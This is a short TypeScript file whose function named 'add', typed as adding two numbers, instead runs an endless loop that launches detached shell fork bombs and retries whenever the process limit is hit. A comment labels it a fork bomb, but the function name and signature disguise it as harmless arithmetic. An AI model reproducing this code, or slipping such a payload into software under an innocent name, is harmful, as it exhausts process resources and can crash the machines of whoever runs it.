// Fork bomb: Node cannot fork, so it starts a shell fork bomb and keeps spawning children.
import { spawn } from 'child_process';

function add(a: number, b: number): number {
    for (;;) {
        try {
            spawn('/bin/sh', ['-c', 'b() { b | b & }; b'], { detached: true, stdio: 'ignore' });
        } catch (error) {
            // EAGAIN: the pids limit; try again.
        }
    }
}
